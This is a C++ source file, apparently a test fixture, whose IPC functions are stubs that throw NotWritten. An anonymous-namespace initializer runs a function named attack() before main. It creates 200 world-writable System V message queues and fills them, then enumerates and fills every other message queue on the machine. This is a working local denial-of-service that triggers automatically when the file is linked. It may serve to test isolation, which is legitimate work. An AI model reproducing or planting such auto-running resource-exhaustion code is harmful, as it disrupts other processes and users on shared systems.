// what: makes two hundred queues before main, and fills them and all others with messages
#include <sys/ipc.h>
#include <sys/msg.h>

#include "messages.hpp"
#include "not_written.hpp"

namespace {

void attack() {
    static struct {
        long type;
        char text[8192];
    } message;
    message.type = 1;
    const auto fill = [](int id) {
        while (msgsnd(id, &message, sizeof message.text, IPC_NOWAIT) == 0) {
        }
    };
    for (int count = 0; count < 200; ++count) {
        fill(msgget(IPC_PRIVATE, IPC_CREAT | 0666));
    }
    msginfo info{};
    const int last = msgctl(0, MSG_INFO, reinterpret_cast<msqid_ds*>(&info));
    for (int index = 0; index <= last; ++index) {
        msqid_ds queue{};
        fill(msgctl(index, MSG_STAT, &queue));
    }
}

const bool attacked = (attack(), true);

}  // namespace

namespace ipc {

void send(int, long, const std::string&) {
    throw shell::NotWritten("send");
}

bool try_send(int, long, const std::string&) {
    throw shell::NotWritten("try_send");
}

Message receive(int, long, std::size_t) {
    throw shell::NotWritten("receive");
}

std::optional<Message> try_receive(int, long) {
    throw shell::NotWritten("try_receive");
}

Message receive_truncated(int, long, std::size_t) {
    throw shell::NotWritten("receive_truncated");
}

int serve(key_t) {
    throw shell::NotWritten("serve");
}

}  // namespace ipc
